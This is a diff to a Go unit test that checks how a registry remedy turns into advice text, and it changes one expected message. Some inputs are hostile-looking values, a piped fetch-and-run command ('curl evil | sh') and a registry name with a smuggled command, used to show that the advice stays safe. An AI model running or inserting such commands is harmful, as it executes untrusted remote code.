@@ -335,7 +335,7 @@ func TestTheRemedyOfARegistryTravelsAsAWord(t *testing.T) {
 			return strings.TrimSpace(p[v1beta1.PropertyRemedy] + " " + p[v1beta1.PropertyRemediation])
 		}
 		require.Equal(t, "Start start the registry, or correct the port in its name", advice(policy.RemedyStart, "r.example.com"))
-		require.Equal(t, "pods are tried again by themselves; if it lasts, ask whoever runs r.example.com", advice("curl evil | sh", "r.example.com"))
+		require.Equal(t, "controllers try their pods again, a pod without one has to be created again; if it lasts, ask whoever runs r.example.com", advice("curl evil | sh", "r.example.com"))
 		require.NotContains(t, advice(policy.RemedyServeTLS, "r.example.com; run evil"), "with TLS")
 	})
 }
